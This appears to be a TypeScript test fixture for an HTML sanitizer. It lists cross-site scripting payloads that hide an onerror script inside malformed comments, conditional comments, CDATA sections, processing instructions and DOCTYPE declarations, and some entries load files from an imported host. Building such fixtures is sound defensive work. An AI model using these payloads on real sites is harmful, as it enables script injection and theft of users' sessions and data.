import { HIT, RUN, type Family } from './payload';

const IMAGE = `<img src="x:" onerror="${RUN}">`;

/** Comments, declarations and instructions that end at an unexpected place. */
export const COMMENTS: Family = {
  'a comment that ends at once': `<!-->${IMAGE}-->`,
  'a comment that ends after a dash': `<!--->${IMAGE}-->`,
  'a comment that ends with a bang': `<!-- a --!>${IMAGE}-->`,
  'a comment that never ends': `<p>Words</p><!-- ${IMAGE}`,
  'a comment in a comment': `<!-- <!-- --> ${IMAGE} -->`,
  'a condition': `<!--[if gte mso 9]>${IMAGE}<![endif]-->`,
  'a condition that is revealed': `<!--[if !mso]><!-->${IMAGE}<!--<![endif]-->`,
  'an open condition': `<![if !mso]>${IMAGE}<![endif]>`,
  'a comment in a value': `<p title="--><img src=x: onerror=${RUN}>">Words</p>`,
  'a comment in a style': `<svg><style><!--</style>${IMAGE}--></style></svg>`,
  'a section of data': `<![CDATA[>${IMAGE}]]>`,
  'a section of data in a drawing': `<svg><![CDATA[</svg>${IMAGE}]]></svg>`,
  'a section of data in a formula': `<math><mtext><![CDATA[</mtext></math>${IMAGE}]]></mtext></math>`,
  'an instruction': `<?xml-stylesheet href="${HIT}/a.css" type="text/css"?>${IMAGE}`,
  'an instruction that ends early': `<?php echo '>${IMAGE}' ?>`,
  'a declaration': `<!DOCTYPE html SYSTEM "${HIT}/a.dtd" [<!ENTITY x "${RUN}">]>${IMAGE}&x;`,
  'a declaration with a subset': `<!doctype html [<!ELEMENT img ANY><!ATTLIST p onclick CDATA "${RUN}">]><p>Words</p>`,
  'an end tag that is a comment': `</ ${IMAGE}></!>${IMAGE}</?>${IMAGE}`,
  'an empty end': `</>${IMAGE}<>${IMAGE}`,
  'an import in an old comment': `<comment>${IMAGE}</comment><!import namespace="t" implementation="${HIT}">`,
};
